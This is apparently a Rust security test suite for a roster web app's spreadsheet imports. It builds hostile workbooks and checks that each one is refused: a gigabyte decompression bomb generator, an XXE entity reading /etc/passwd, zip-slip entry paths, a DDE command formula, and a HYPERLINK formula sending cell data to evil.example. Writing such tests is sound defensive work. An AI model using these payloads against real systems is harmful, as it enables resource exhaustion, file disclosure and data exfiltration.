//! Hostile uploads (issue #15): every file is built here, byte by byte where a spreadsheet library
//! would refuse to write it, and posted to the roster and dues imports. Each refusal must be clear
//! and in Chinese, leave the roster as it was, and come quickly; the decompression bomb must not
//! raise the server's memory (the server runs in this process, so its peak RSS is ours).

use std::io::{Cursor, Read};
use std::time::{Duration, Instant};

use reqwest::multipart::{Form, Part};
use reqwest::{Response, StatusCode};
use rust_xlsxwriter::{Formula, Workbook};
use serde_json::Value;

use crate::helpers::*;
use crate::on_both_backends;
use crate::orgs::org_id;

// ---- building zip archives by hand ----

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in bytes {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// One entry as it goes into the archive: `data` is stored (method 0) or raw deflate (8), and
/// `size` is what the headers declare it inflates to (which a hostile file may lie about).
struct Entry {
    name: String,
    method: u16,
    data: Vec<u8>,
    crc: u32,
    size: u32,
}

impl Entry {
    fn stored(name: &str, data: Vec<u8>) -> Entry {
        Entry {
            name: name.to_string(),
            method: 0,
            crc: crc32(&data),
            size: data.len() as u32,
            data,
        }
    }
}

fn zip_of(entries: &[Entry]) -> Vec<u8> {
    fn u16le(out: &mut Vec<u8>, v: u16) {
        out.extend_from_slice(&v.to_le_bytes());
    }
    fn u32le(out: &mut Vec<u8>, v: u32) {
        out.extend_from_slice(&v.to_le_bytes());
    }
    let mut out = Vec::new();
    let mut central = Vec::new();
    for entry in entries {
        let offset = out.len() as u32;
        u32le(&mut out, 0x0403_4b50);
        for v in [20, 0, entry.method, 0, 0x21] {
            u16le(&mut out, v);
        }
        u32le(&mut out, entry.crc);
        u32le(&mut out, entry.data.len() as u32);
        u32le(&mut out, entry.size);
        u16le(&mut out, entry.name.len() as u16);
        u16le(&mut out, 0);
        out.extend_from_slice(entry.name.as_bytes());
        out.extend_from_slice(&entry.data);

        u32le(&mut central, 0x0201_4b50);
        for v in [20, 20, 0, entry.method, 0, 0x21] {
            u16le(&mut central, v);
        }
        u32le(&mut central, entry.crc);
        u32le(&mut central, entry.data.len() as u32);
        u32le(&mut central, entry.size);
        for v in [entry.name.len() as u16, 0, 0, 0, 0] {
            u16le(&mut central, v);
        }
        u32le(&mut central, 0);
        u32le(&mut central, offset);
        central.extend_from_slice(entry.name.as_bytes());
    }
    let central_at = out.len() as u32;
    out.extend_from_slice(&central);
    u32le(&mut out, 0x0605_4b50);
    for v in [0, 0, entries.len() as u16, entries.len() as u16] {
        u16le(&mut out, v);
    }
    u32le(&mut out, central.len() as u32);
    u32le(&mut out, central_at);
    u16le(&mut out, 0);
    out
}

/// A raw deflate stream (one block, fixed Huffman codes) of `prefix`, then `run` copies of
/// `byte`, then `suffix`: the run costs 13 bits per 258 bytes, so a gigabyte is about 6.5 MB.
fn deflate_run(prefix: &[u8], byte: u8, run: u64, suffix: &[u8]) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        n: u32,
    }
    impl Bits {
        fn put(&mut self, value: u32, n: u32) {
            self.acc |= u64::from(value) << self.n;
            self.n += n;
            while self.n >= 8 {
                self.out.push(self.acc as u8);
                self.acc >>= 8;
                self.n -= 8;
            }
        }
        /// Huffman codes go most significant bit first.
        fn code(&mut self, code: u32, len: u32) {
            let reversed = code.reverse_bits() >> (32 - len);
            self.put(reversed, len);
        }
        fn literal(&mut self, b: u8) {
            if b < 144 {
                self.code(0x30 + u32::from(b), 8);
            } else {
                self.code(0x190 + u32::from(b) - 144, 9);
            }
        }
    }
    let mut bits = Bits {
        out: Vec::with_capacity((run / 158) as usize + 1024),
        acc: 0,
        n: 0,
    };
    bits.put(1, 1); // the final block
    bits.put(1, 2); // fixed Huffman codes
    prefix.iter().for_each(|&b| bits.literal(b));
    if run > 0 {
        bits.literal(byte);
        let rest = run - 1;
        for _ in 0..rest / 258 {
            bits.code(0xC5, 8); // length 258 (symbol 285)
            bits.code(0, 5); // distance 1
        }
        for _ in 0..rest % 258 {
            bits.literal(byte);
        }
    }
    suffix.iter().for_each(|&b| bits.literal(b));
    bits.code(0, 7); // end of block
    bits.put(0, 7);
    bits.out
}

/// The parts of a real workbook (rust_xlsxwriter's, with a shared-string table), decompressed.
fn workbook_parts(build: impl FnOnce(&mut Workbook)) -> Vec<(String, Vec<u8>)> {
    let mut book = Workbook::new();
    build(&mut book);
    let bytes = book.save_to_buffer().expect("workbook");
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("zip");
    (0..archive.len())
        .map(|i| {
            let mut entry = archive.by_index(i).expect("entry");
            let mut data = Vec::new();
            entry.read_to_end(&mut data).expect("inflate");
            (entry.name().expect("name").to_string(), data)
        })
        .collect()
}

fn roster_header(book: &mut Workbook) {
    let sheet = book.add_worksheet();
    for (c, label) in ["姓名", "身份证号"].iter().enumerate() {
        sheet.write_string(0, c as u16, *label).expect("write");
    }
}

/// A roster workbook whose parts are kept, except those `replace` swaps for hostile entries.
fn hostile_xlsx(replace: impl Fn(&str, &[u8]) -> Option<Entry>, extra: Vec<Entry>) -> Vec<u8> {
    let mut entries: Vec<Entry> = workbook_parts(roster_header)
        .into_iter()
        .map(|(name, data)| replace(&name, &data).unwrap_or_else(|| Entry::stored(&name, data)))
        .collect();
    entries.extend(extra);
    zip_of(&entries)
}

const GIB: u64 = 1024 * 1024 * 1024;

/// The issue's bomb: one shared string of a gigabyte of `A`, declared honestly or, with
/// `lying`, declared as 4 KiB.
fn shared_string_bomb(lying: bool) -> Vec<u8> {
    let prefix = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>"#;
    let suffix = b"</t></si></sst>";
    let run = GIB + 1024;
    let inflated = prefix.len() as u64 + run + suffix.len() as u64;
    hostile_xlsx(
        |name, _| {
            (name == "xl/sharedStrings.xml").then(|| Entry {
                name: name.to_string(),
                method: 8,
                data: deflate_run(prefix, b'A', run, suffix),
                // Not the real checksum: computing it would mean inflating the bomb here. A reader
                // that gets as far as checking it has already spent the memory.
                crc: 0,
                size: if lying { 4096 } else { inflated as u32 },
            })
        },
        Vec::new(),
    )
}

// ---- talking to the server ----

async fn upload(app: &TestApp, path: &str, org: i64, name: &str, bytes: Vec<u8>) -> Response {
    let form = Form::new()
        .text("org_id", org.to_string())
        .part("file", Part::bytes(bytes).file_name(name.to_string()));
    app.client
        .post(app.url(path))
        .header("x-csrf-token", app.csrf().await)
        .multipart(form)
        .send()
        .await
        .expect("upload")
}

async fn roster_total(app: &TestApp) -> i64 {
    let (status, list) = app.get_json("/api/v1/members").await;
    assert_eq!(status, StatusCode::OK, "{list}");
    list["total"].as_i64().expect("total")
}

/// The peak resident memory of this process (the server runs in it), in KiB.
fn peak_rss_kib() -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmHWM:"))
        .and_then(|rest| rest.split_whitespace().next())
        .and_then(|kib| kib.parse().ok())
        .unwrap_or(0)
}

/// Posts `bytes` to both imports; each must refuse with 422 and a message containing `expect`,
/// with the roster as it was. (How fast is the benchmark's business, not a test's: a timed
/// assertion fails on a loaded machine and proves nothing on a fast one.)
async fn both_imports_refuse(app: &TestApp, bytes: &[u8], expect: &str) -> Vec<Value> {
    let branch = org_id(app, "站南派出所党支部").await;
    let before = roster_total(app).await;
    let mut bodies = Vec::new();
    for path in [
        "/api/v1/members/import",
        "/api/v1/dues/import?kind=payments",
    ] {
        let response = upload(app, path, branch, "花名册.xlsx", bytes.to_vec()).await;
        assert_eq!(
            response.status(),
            StatusCode::UNPROCESSABLE_ENTITY,
            "{path}"
        );
        let body: Value = response.json().await.expect("json");
        let message = body["message"].as_str().expect("message");
        assert!(message.contains(expect), "{path}: {message}");
        bodies.push(body);
    }
    assert_eq!(roster_total(app).await, before, "nothing was imported");
    bodies
}

// ---- the scenarios ----

async fn a_shared_string_bomb_is_refused_without_inflating_it(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    for lying in [false, true] {
        let bomb = shared_string_bomb(lying);
        assert!(bomb.len() < 8 * 1024 * 1024, "{} bytes", bomb.len());
        let peak_before = peak_rss_kib();
        both_imports_refuse(&app, &bomb, "解压后过大").await;
        let grew_mib = peak_rss_kib().saturating_sub(peak_before) / 1024;
        // Without the gate calamine held the whole string: over a gigabyte.
        assert!(
            grew_mib < 256,
            "peak RSS grew {grew_mib} MiB (lying header: {lying})"
        );
    }
}

async fn a_truncated_or_fake_workbook_is_refused(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    let mut book = Workbook::new();
    roster_header(&mut book);
    let mut whole = book.save_to_buffer().expect("workbook");
    whole.truncate(whole.len() * 2 / 3);
    both_imports_refuse(&app, &whole, "不是有效的 .xlsx").await;
    let mut fake = b"PK\x03\x04".to_vec();
    fake.extend_from_slice(&[0u8; 512]);
    both_imports_refuse(&app, &fake, "不是有效的 .xlsx").await;
}

async fn an_external_entity_is_never_expanded(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    let doctype = r#"<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#;
    for part in ["xl/sharedStrings.xml", "xl/workbook.xml"] {
        let bytes = hostile_xlsx(
            |name, data| {
                (name == part).then(|| {
                    let xml = String::from_utf8_lossy(data);
                    let body = xml.split_once("?>").map_or(&*xml, |(_, rest)| rest);
                    let body = body.replacen("<t>姓名</t>", "<t>&xxe;</t>", 1);
                    Entry::stored(name, format!("{doctype}{body}").into_bytes())
                })
            },
            Vec::new(),
        );
        for body in both_imports_refuse(&app, &bytes, "DOCTYPE").await {
            let echoed = body.to_string();
            assert!(
                !echoed.contains("root:") && !echoed.contains("/bin/"),
                "{part}: {echoed}"
            );
        }
    }
}

async fn entry_names_leaving_the_archive_are_refused(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    for name in ["../../x", "/etc/cron.d/x", "xl/../../../x"] {
        let bytes = hostile_xlsx(|_, _| None, vec![Entry::stored(name, b"x".to_vec())]);
        both_imports_refuse(&app, &bytes, "可疑的路径").await;
    }
}

/// Whether the exported roster's cell holding exactly `text` carries Excel's quote prefix (the
/// cell's style `s` indexes `cellXfs`, whose `xf` says `quotePrefix="1"`).
fn exported_cell_is_literal(xlsx: &[u8], text: &str) -> bool {
    let mut archive = zip::ZipArchive::new(Cursor::new(xlsx.to_vec())).expect("zip");
    let mut part = |name: &str| {
        let mut xml = String::new();
        archive
            .by_name(name)
            .expect("part")
            .read_to_string(&mut xml)
            .expect("utf-8");
        xml
    };
    let sheet = part("xl/worksheets/sheet1.xml");
    let styles = part("xl/styles.xml");
    // The cell's text as XML holds it (inline, `<is><t …>text</t></is>`), entities decoded.
    let text_of = |cell: &str| -> Option<String> {
        let (_, after) = cell.split_once("<t")?;
        let (_, inner) = after.split_once('>')?;
        let (raw, _) = inner.split_once("</t>")?;
        Some(
            raw.replace("&quot;", "\"")
                .replace("&apos;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&"),
        )
    };
    let cell = sheet
        .split("<c ")
        .find(|cell| text_of(cell).as_deref() == Some(text))
        .unwrap_or_else(|| panic!("no cell holds {text}"));
    let style: usize = cell
        .split_once(" s=\"")
        .and_then(|(_, rest)| rest.split_once('"'))
        .and_then(|(s, _)| s.parse().ok())
        .unwrap_or(0);
    let xfs = styles
        .split_once("<cellXfs")
        .and_then(|(_, rest)| rest.split_once("</cellXfs>"))
        .map(|(xfs, _)| xfs)
        .expect("cellXfs");
    xfs.split("<xf ").nth(style + 1).is_some_and(|xf| {
        xf.split('>')
            .next()
            .unwrap_or("")
            .contains("quotePrefix=\"1\"")
    })
}

async fn formulas_import_as_text_and_export_as_literal_text(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    let branch = org_id(&app, "站南派出所党支部").await;
    let hyperlink = r#"=HYPERLINK("http://evil.example/?q="&A2,"点此查看")"#;
    let dde = "=cmd|' /C calc'!A0";
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (c, label) in crate::roster_io::HEADER.iter().enumerate() {
        sheet.write_string(0, c as u16, *label).expect("write");
    }
    let id = dangjian_domain::id_number::IdNumber::from_body("61050219900307123")
        .expect("body")
        .as_str()
        .to_string();
    // The name is a real formula with a cached result: the import takes the result as text.
    sheet
        .write_formula(
            1,
            0,
            Formula::new(r#"=HYPERLINK("http://evil.example","韩梅")"#).set_result("韩梅"),
        )
        .expect("formula");
    for (c, text) in [
        (4, id.as_str()),
        (7, dde),
        (8, hyperlink),
        (9, "正式党员"),
        (10, "2015-07-01"),
        (11, "2016-07-01"),
        (5, "13912345678"),
        (6, "大学本科"),
        (17, "刑侦党小组"),
    ] {
        sheet.write_string(1, c, text).expect("write");
    }
    let bytes = book.save_to_buffer().expect("workbook");
    let response = upload(&app, "/api/v1/members/import", branch, "公式.xlsx", bytes).await;
    let status = response.status();
    let body: Value = response.json().await.expect("json");
    assert_eq!(status, StatusCode::OK, "{body}");
    let (_, list) = app.get_json("/api/v1/members?q=韩梅").await;
    let member = &list["items"][0];
    assert_eq!(member["name"], "韩梅", "the cached value, not the formula");

    let export = app
        .client
        .post(app.url(&format!(
            "/api/v1/members/export?org_id={branch}&unmasked=true"
        )))
        .header("x-csrf-token", app.csrf().await)
        .send()
        .await
        .expect("export");
    assert_eq!(export.status(), StatusCode::OK);
    let exported = export.bytes().await.expect("bytes").to_vec();
    for text in [hyperlink, dde] {
        assert!(
            exported_cell_is_literal(&exported, text),
            "{text} is exported as literal text"
        );
    }
    assert!(
        !exported_cell_is_literal(&exported, "刑侦党小组"),
        "ordinary text keeps the ordinary style"
    );
}

async fn many_bad_rows_answer_a_bounded_report(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    let branch = org_id(&app, "站南派出所党支部").await;
    // Enough rows for the report to be cut twenty times over; a larger file only makes a debug
    // build on a busy machine meet the server's 30-second request timeout.
    let rows = 20_000u32;
    let mut book = Workbook::new();
    let sheet = book
        .add_worksheet_with_constant_memory()
        .expect("worksheet");
    for (c, label) in crate::roster_io::HEADER.iter().enumerate() {
        sheet.write_string(0, c as u16, *label).expect("write");
    }
    for r in 1..=rows {
        sheet.write_string(r, 0, "无名").expect("write");
        sheet.write_string(r, 4, "12345").expect("write");
    }
    let bytes = book.save_to_buffer().expect("workbook");
    let before = roster_total(&app).await;
    let response = upload(&app, "/api/v1/members/import", branch, "坏行.xlsx", bytes).await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body: Value = response.json().await.expect("json");
    let errors = body["errors"].as_array().expect("errors");
    assert_eq!(errors.len(), 1000, "the first 1000 problems are listed");
    assert!(
        body["total_errors"].as_u64().expect("total") >= u64::from(rows),
        "and all are counted: {}",
        body["total_errors"]
    );
    assert_eq!(errors[0]["row"], 2);
    assert_eq!(roster_total(&app).await, before);
}

async fn a_third_import_at_once_is_told_to_come_back(backend: Backend) {
    let app = spawn_demo(backend).await;
    app.login(SECRETARY, PASSWORD).await;
    let branch = org_id(&app, "站南派出所党支部").await;
    // Two imports in progress hold both slots.
    let first = app.app.import_slot().await.expect("a slot");
    let second = app.app.import_slot().await.expect("another slot");
    let mut book = Workbook::new();
    roster_header(&mut book);
    let bytes = book.save_to_buffer().expect("workbook");
    let before = roster_total(&app).await;
    let started = Instant::now();
    let response = upload(
        &app,
        "/api/v1/members/import",
        branch,
        "花名册.xlsx",
        bytes.clone(),
    )
    .await;
    assert_eq!(response.status(), StatusCode::SERVICE_UNAVAILABLE);
    assert_eq!(
        response
            .headers()
            .get("retry-after")
            .and_then(|v| v.to_str().ok()),
        Some("10")
    );
    let body: Value = response.json().await.expect("json");
    assert_eq!(body["code"], "busy");
    assert!(
        body["message"]
            .as_str()
            .expect("message")
            .contains("稍后再试"),
        "{body}"
    );
    assert!(
        started.elapsed() >= Duration::from_secs(4),
        "it waited its turn first"
    );
    assert_eq!(roster_total(&app).await, before);
    // Once one finishes, the next import runs (and reads the file: only a header, no members).
    drop(first);
    let response = upload(&app, "/api/v1/members/import", branch, "花名册.xlsx", bytes).await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    drop(second);
}

on_both_backends!(
    a_third_import_at_once_is_told_to_come_back,
    a_shared_string_bomb_is_refused_without_inflating_it,
    a_truncated_or_fake_workbook_is_refused,
    an_external_entity_is_never_expanded,
    entry_names_leaving_the_archive_are_refused,
    formulas_import_as_text_and_export_as_literal_text,
    many_bad_rows_answer_a_bounded_report
);
